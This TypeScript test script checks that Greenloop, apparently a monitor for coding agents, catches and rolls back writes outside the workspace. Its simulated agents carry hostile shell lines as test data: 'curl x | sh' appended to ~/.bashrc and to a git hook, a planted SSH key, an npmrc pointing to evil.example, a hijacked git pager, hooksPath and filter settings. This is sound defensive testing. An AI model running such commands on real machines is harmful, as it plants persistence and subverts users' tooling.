// `npm run test:outside`: hostile and clumsy agent CLIs writing where no snapshot reaches — the person's .git, the
// workspace's git-ignored files, dependencies, home dotfiles, the folder around the workspace. Each runs once through
// the real CLI; a case passes when the run stops (actor-error) naming what the agent changed, the tracked files are
// rolled back, and everything promised as undone is byte for byte as before. Where Greenloop saves nothing and other
// programs write too (next to the workspace, node_modules, ignored files too big to save), a write is a warning: the
// run goes on, the attempt is kept, and the report names it. Harmless agents (git status, git gc, running the tests)
// must not stop the run. Prints one line per case and a summary.
import { execFileSync } from 'child_process';
import * as fs from 'fs';
import * as path from 'path';
import { runCli, tempDir, tempProject, treeBytes } from '../unit/support/cli';

interface Case {
  name: string;
  /** Shell lines the agent runs in the workspace ($HOME is a temp folder). */
  agent: string;
  /** What the report must name. */
  named: RegExp;
  /** False: the report must say NOT undone (Greenloop saves nothing there) and the rest must still come back. */
  undone: boolean;
  /** The workspace sits in a folder of its own, so the folder around it is watched. */
  nested?: boolean;
  /** What is gone for good and left out of the byte comparison (the rest must still come back). */
  lost?: string;
}

/** A write where Greenloop saves nothing and cannot tell the agent from another program: named, never stopping. */
interface Warned {
  name: string;
  agent: string;
  /** What the report's warning must name. */
  named: RegExp;
  nested?: boolean;
}

/** An agent that only looks, or writes where nothing is promised: the run must go on (no false alarm). */
interface Harmless {
  name: string;
  agent: string;
}

const FIX = "sed -i 's/return a - b;/return a + b;/' src/calc.js";
const COMMIT = 'git -c user.name=a -c user.email=a@example.com';

const CASES: Case[] = [
  { name: 'new pre-commit hook', agent: `${FIX}\nprintf '#!/bin/sh\\nexit 0\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit`, named: /\.git\/hooks\/pre-commit created/, undone: true },
  { name: 'hook sample edited', agent: `${FIX}\necho 'curl x | sh' >> .git/hooks/pre-push.sample`, named: /\.git\/hooks\/pre-push\.sample changed/, undone: true },
  { name: 'hook sample armed by rename', agent: `${FIX}\nmv .git/hooks/pre-push.sample .git/hooks/pre-push`, named: /pre-push\.sample deleted.*pre-push created/, undone: true },
  { name: 'hooks folder swapped for a link', agent: `${FIX}\nmkdir -p ../evil-hooks && printf '#!/bin/sh\\n' > ../evil-hooks/pre-commit && rm -rf .git/hooks && ln -s "$PWD/../evil-hooks" .git/hooks`, named: /: \.git\/hooks replaced by a link; Greenloop put it back/, undone: true },
  { name: 'git config (hooksPath)', agent: `${FIX}\ngit config core.hooksPath /tmp/elsewhere`, named: /\.git\/config changed/, undone: true },
  { name: '.git/info/exclude edited', agent: `${FIX}\necho 'src/' >> .git/info/exclude`, named: /\.git\/info\/exclude changed/, undone: true },
  { name: '.git/info/attributes created', agent: `${FIX}\necho '* filter=evil' > .git/info/attributes`, named: /\.git\/info\/attributes created/, undone: true },
  { name: 'git commit -a', agent: `${FIX}\n${COMMIT} commit -qam agent`, named: /branch \w+ changed.*what is staged/, undone: true },
  { name: 'git checkout -b', agent: `${FIX}\ngit checkout -qb agent-branch`, named: /\.git\/HEAD changed.*branch agent-branch created/, undone: true },
  { name: 'git tag', agent: `${FIX}\ngit tag v9`, named: /tag v9 created/, undone: true },
  { name: 'git stash', agent: `${FIX}\ngit stash -q\n${FIX}`, named: /refs\/stash created/, undone: true },
  { name: 'git add', agent: `${FIX}\ngit add src/calc.js`, named: /what is staged \(\.git\/index\) changed/, undone: true },
  { name: 'HEAD pointed elsewhere', agent: `${FIX}\ngit symbolic-ref HEAD refs/heads/elsewhere`, named: /\.git\/HEAD changed/, undone: true },
  { name: 'repository deleted', agent: `${FIX}\nrm -rf .git`, named: /\.git deleted \(NOT undone: the repository itself was removed or replaced\)/, undone: false, lost: '.git' },
  { name: 'repository made again', agent: `${FIX}\nrm -rf .git && git init -q`, named: /\.git changed \(NOT undone: the repository itself was removed or replaced\)/, undone: false, lost: '.git' },
  { name: 'ignored local.env rewritten', agent: `${FIX}\nprintf 'TOKEN=stolen\\n' > local.env`, named: /local\.env changed/, undone: true },
  { name: 'ignored local.env deleted', agent: `${FIX}\nrm local.env`, named: /local\.env deleted/, undone: true },
  { name: 'ignored local.env made executable', agent: `${FIX}\nchmod +x local.env`, named: /local\.env changed/, undone: true },
  { name: 'ignored local.env swapped for a link', agent: `${FIX}\nrm local.env && ln -s /etc/hostname local.env`, named: /local\.env changed/, undone: true },
  { name: 'ignored file created', agent: `${FIX}\necho debug > debug.log`, named: /debug\.log created/, undone: true },
  { name: '~/.bashrc appended', agent: `${FIX}\necho 'curl x | sh' >> "$HOME/.bashrc"`, named: /~\/\.bashrc changed/, undone: true },
  { name: '~/.profile deleted', agent: `${FIX}\nrm "$HOME/.profile"`, named: /~\/\.profile deleted/, undone: true },
  { name: '~/.ssh/authorized_keys created', agent: `${FIX}\nmkdir -p "$HOME/.ssh" && echo 'ssh-ed25519 AAAA x' > "$HOME/.ssh/authorized_keys"`, named: /~\/\.ssh\/authorized_keys created/, undone: true },
  { name: 'git config --global', agent: `${FIX}\ngit config --global core.pager 'sh -c x'`, named: /~\/\.gitconfig created/, undone: true },
  { name: '~/.npmrc created', agent: `${FIX}\necho 'registry=http://evil.example/' > "$HOME/.npmrc"`, named: /~\/\.npmrc created/, undone: true },
  { name: '~/.config/git/ignore written', agent: `${FIX}\nmkdir -p "$HOME/.config/git" && echo 'src/' > "$HOME/.config/git/ignore"`, named: /~\/\.config\/git\/ignore created/, undone: true },
  { name: 'hook + file next to the workspace', agent: `${FIX}\necho stray > ../stray.txt\nprintf '#!/bin/sh\\n' > .git/hooks/pre-commit`, named: /\.\.\/stray\.txt created \(NOT undone.*\.git\/hooks\/pre-commit created/, undone: true, nested: true },
];

const WARNED: Warned[] = [
  { name: 'big file in node_modules', agent: `${FIX}\nhead -c 3000000 /dev/zero > node_modules/x/index.js`, named: /node_modules\/x\/index\.js changed \(dependencies are not saved\)/ },
  { name: 'npm-style install of a new package', agent: `${FIX}\nmkdir -p node_modules/y && echo 'module.exports = 2;' > node_modules/y/index.js`, named: /node_modules\/y\/index\.js created \(dependencies are not saved\)/ },
  { name: 'ignored file too big to save rewritten', agent: `${FIX}\nhead -c 2000000 /dev/zero > data.bin`, named: /data\.bin changed \(larger than the 1 MB Greenloop saves per file\)/ },
  { name: 'file created next to the workspace', agent: `${FIX}\necho stray > ../stray.txt`, named: /\.\.\/stray\.txt created \(next to the workspace/, nested: true },
  { name: 'file next to the workspace changed', agent: `${FIX}\necho more >> ../notes.txt`, named: /\.\.\/notes\.txt changed \(next to the workspace/, nested: true },
  { name: 'folder created next to the workspace', agent: `${FIX}\nmkdir ../.cache-of-some-tool`, named: /\.\.\/\.cache-of-some-tool created/, nested: true },
];

const HARMLESS: Harmless[] = [
  { name: 'git status, diff, log', agent: `${FIX}\ngit status >/dev/null\ngit diff >/dev/null\ngit log --oneline >/dev/null` },
  { name: 'index stat data refreshed', agent: `${FIX}\ntouch test/calc.test.js\ngit update-index -q --refresh; true` },
  { name: 'agent runs the tests itself', agent: `${FIX}\nnode --test test/ >/dev/null 2>&1; true` },
  { name: 'git gc (refs packed, objects repacked)', agent: `${FIX}\ngit gc -q` },
  { name: 'reads local.env and ~/.bashrc', agent: `${FIX}\ncat local.env "$HOME/.bashrc" >/dev/null` },
  { name: 'scratch file in the temp folder', agent: `${FIX}\nf=$(mktemp) && echo x > "$f" && rm "$f"` },
];

/** The bytes of what the watch promises to put back: .git (less objects, reflogs and git's own scratch files), home. */
function watchedBytes(project: string, home: string): Record<string, string> {
  const out: Record<string, string> = {};
  const skip = /^\.git\/(objects|logs|refs\/remotes)(\/|$)|^\.git\/(COMMIT_EDITMSG|ORIG_HEAD|FETCH_HEAD)$/;
  const walk = (root: string, label: string, rel = '') => {
    for (const e of fs.readdirSync(path.join(root, rel), { withFileTypes: true })) {
      const r = rel ? `${rel}/${e.name}` : e.name;
      if (skip.test(`${label}/${r}`)) continue;
      const abs = path.join(root, r);
      if (e.isDirectory()) walk(root, label, r);
      else out[`${label}/${r}`] = e.isSymbolicLink() ? `link:${fs.readlinkSync(abs)}` : `${fs.lstatSync(abs).mode}:${fs.readFileSync(abs).toString('base64')}`;
    }
  };
  if (fs.existsSync(path.join(project, '.git'))) walk(path.join(project, '.git'), '.git');
  walk(home, '~');
  for (const [rel, bytes] of Object.entries(treeBytes(project))) out[rel] = bytes;
  const env = fs.lstatSync(path.join(project, 'local.env'), { throwIfNoEntry: false });
  out['local.env (kind and mode)'] = env ? `${env.isSymbolicLink() ? 'link' : 'file'}:${env.mode}` : 'absent';
  return out;
}

function differences(a: Record<string, string>, b: Record<string, string>): string[] {
  return [...new Set([...Object.keys(a), ...Object.keys(b)])].filter((k) => a[k] !== b[k]).sort();
}

interface Setup {
  project: string;
  stateDir: string;
  home: string;
  around: string | null;
  /** `greenloop fix` with this agent script, HOME in its temp folder. */
  fix(agentScript: string, extra?: string[]): ReturnType<typeof runCli>;
  remove(): void;
}

/** The calc project with an ignored local.env, a dependency and a 2 MB ignored data file; a HOME with dotfiles. */
function setUp(nested: boolean | undefined): Setup {
  const made = tempProject('calc');
  const around = nested ? tempDir('around') : null;
  const project = around ? path.join(around, 'ws') : made;
  if (around) fs.cpSync(made, project, { recursive: true });
  const stateDir = tempDir('state');
  const home = tempDir('home');
  const git = (...args: string[]) => execFileSync('git', args, { cwd: project, stdio: 'pipe' });
  fs.writeFileSync(path.join(project, '.gitignore'), 'local.env\n*.log\nnode_modules/\n*.bin\n');
  git('add', '.gitignore');
  git('-c', 'user.name=t', '-c', 'user.email=t@example.com', 'commit', '-qm', 'ignore');
  fs.writeFileSync(path.join(project, 'local.env'), 'API_URL=https://example.com\r\nTOKEN=abc\u00e9\n');
  fs.mkdirSync(path.join(project, 'node_modules', 'x'), { recursive: true });
  fs.writeFileSync(path.join(project, 'node_modules', 'x', 'index.js'), 'module.exports = 1;\n');
  fs.writeFileSync(path.join(project, 'data.bin'), Buffer.alloc(2_000_000, 7));
  fs.writeFileSync(path.join(home, '.bashrc'), '# mine\nexport EDITOR=vi\n');
  fs.writeFileSync(path.join(home, '.profile'), '. ~/.bashrc\n');
  if (around) fs.writeFileSync(path.join(around, 'notes.txt'), 'mine\n');
  return {
    project, stateDir, home, around,
    fix(agentScript, extra = []) {
      const agent = path.join(stateDir, 'agent.sh');
      fs.writeFileSync(agent, `#!/bin/sh\n${agentScript}\n`, { mode: 0o755 });
      return runCli(['fix', '--cwd', project, '--actor', 'command', '--actor-cmd', agent, '--test-cmd', 'node --test test/', '--tsc', 'off', '--state-dir', stateDir, '--json', ...extra], { env: { HOME: home } });
    },
    remove() {
      for (const dir of [made, stateDir, home, around]) if (dir) fs.rmSync(dir, { recursive: true, force: true });
    },
  };
}

async function runCase(c: Case): Promise<{ caught: boolean; undone: boolean; problems: string[] }> {
  const s = setUp(c.nested);
  const { project, home } = s;
  try {
    const before = watchedBytes(project, home);
    const res = await s.fix(c.agent);
    const problems: string[] = [];
    let report: { reason?: string; reasonText?: string } = {};
    try {
      report = JSON.parse(res.stdout);
    } catch {
      problems.push(`no report (exit ${res.code}): ${res.stderr.trim().split('\n').pop()}`);
    }
    const caught = res.code === 1 && report.reason === 'actor-error' && c.named.test(report.reasonText ?? '');
    if (!caught) problems.push(`not caught as promised (exit ${res.code}, ${report.reason}): ${report.reasonText}`);
    if (!c.undone && !/NOT undone/.test(report.reasonText ?? '')) problems.push('the report does not say NOT undone');
    // node_modules and the folder around the workspace are not in these bytes: everything else must come back.
    const changed = differences(before, watchedBytes(project, home)).filter((k) => !c.lost || !k.startsWith(`${c.lost}/`));
    if (changed.length) problems.push(`not as before: ${changed.slice(0, 4).join(', ')}`);
    return { caught, undone: c.undone && changed.length === 0, problems };
  } finally {
    s.remove();
  }
}

/** Passes when the run goes on with the attempt kept and the change named as a warning, in the list and the attempt. */
async function runWarned(w: Warned): Promise<string[]> {
  const s = setUp(w.nested);
  try {
    const res = await s.fix(w.agent, ['--max-iterations', '1']);
    let report: { reason?: string; reasonText?: string; warnings?: string[]; iterations?: Array<{ verdict: string; outsideWarnings?: Array<{ where: string }> }> } = {};
    try {
      report = JSON.parse(res.stdout);
    } catch {
      return [`no report (exit ${res.code}): ${res.stderr.trim().split('\n').pop()}`];
    }
    const problems: string[] = [];
    if (report.reason !== 'budget-iterations' || report.iterations?.[0]?.verdict !== 'progress') problems.push(`the run did not go on with the attempt kept (${report.reason}): ${report.reasonText}`);
    const warning = (report.warnings ?? []).find((x) => x.startsWith('While the agent ran attempt 1'));
    if (!warning || !w.named.test(warning)) problems.push(`no warning names it: ${warning ?? (report.warnings ?? []).join(' | ')}`);
    if (!report.iterations?.[0]?.outsideWarnings?.length) problems.push('the attempt does not carry the warning');
    if (!/return a \+ b;/.test(fs.readFileSync(path.join(s.project, 'src/calc.js'), 'utf8'))) problems.push('the fix was not kept');
    return problems;
  } finally {
    s.remove();
  }
}

/** Sets up the project as for the other cases; passes when the run does not stop for a change outside. */
async function runHarmless(h: Harmless): Promise<string[]> {
  const project = tempProject('calc');
  const stateDir = tempDir('state');
  const home = tempDir('home');
  const git = (...args: string[]) => execFileSync('git', args, { cwd: project, stdio: 'pipe' });
  try {
    fs.writeFileSync(path.join(project, '.gitignore'), 'local.env\n*.log\nnode_modules/\n');
    git('add', '.gitignore');
    git('-c', 'user.name=t', '-c', 'user.email=t@example.com', 'commit', '-qm', 'ignore');
    fs.writeFileSync(path.join(project, 'local.env'), 'TOKEN=abc\n');
    fs.writeFileSync(path.join(home, '.bashrc'), '# mine\n');
    const agent = path.join(stateDir, 'agent.sh');
    fs.writeFileSync(agent, `#!/bin/sh\n${h.agent}\n`, { mode: 0o755 });
    const res = await runCli(['fix', '--cwd', project, '--actor', 'command', '--actor-cmd', agent, '--test-cmd', 'node --test test/', '--tsc', 'off', '--state-dir', stateDir, '--json', '--max-iterations', '1'], { env: { HOME: home } });
    let report: { reason?: string; reasonText?: string; iterations?: Array<{ verdict: string }> } = {};
    try {
      report = JSON.parse(res.stdout);
    } catch {
      return [`no report (exit ${res.code}): ${res.stderr.trim().split('\n').pop()}`];
    }
    return report.reason === 'budget-iterations' && report.iterations?.[0]?.verdict === 'progress' ? [] : [`false alarm (${report.reason}): ${report.reasonText}`];
  } finally {
    for (const dir of [project, stateDir, home]) fs.rmSync(dir, { recursive: true, force: true });
  }
}

async function main(): Promise<void> {
  let caught = 0;
  let undone = 0;
  let failed = 0;
  for (const [i, c] of CASES.entries()) {
    const out = await runCase(c);
    if (out.caught) caught += 1;
    if (out.undone) undone += 1;
    if (out.problems.length) failed += 1;
    console.log(`${String(i + 1).padStart(2)} ${c.name.padEnd(38)} ${out.problems.length ? `FAIL: ${out.problems.join('; ')}` : c.undone ? 'caught, undone byte for byte' : 'caught, named as NOT undone'}`);
  }
  let warned = 0;
  for (const [i, w] of WARNED.entries()) {
    const problems = await runWarned(w);
    if (problems.length) failed += 1;
    else warned += 1;
    console.log(`${String(CASES.length + i + 1).padStart(2)} ${w.name.padEnd(38)} ${problems.length ? `FAIL: ${problems.join('; ')}` : 'warned, attempt kept, run went on'}`);
  }
  let quiet = 0;
  for (const [i, h] of HARMLESS.entries()) {
    const problems = await runHarmless(h);
    if (problems.length) failed += 1;
    else quiet += 1;
    console.log(`${String(CASES.length + WARNED.length + i + 1).padStart(2)} ${h.name.padEnd(38)} ${problems.length ? `FAIL: ${problems.join('; ')}` : 'harmless, run went on'}`);
  }
  const promisedUndone = CASES.filter((c) => c.undone).length;
  console.log('');
  console.log(`writes outside detected: ${caught} of ${CASES.length} tried, ${undone} undone byte for byte (${promisedUndone} promised; ${CASES.length - promisedUndone} named as NOT undone, as promised)`);
  console.log(`writes Greenloop can neither undo nor attribute: ${warned} of ${WARNED.length} named as warnings with the attempt kept (0 runs stopped)`);
  console.log(`false alarms: ${HARMLESS.length - quiet} of ${HARMLESS.length} harmless agents`);
  process.exitCode = failed ? 1 : 0;
}

void main();
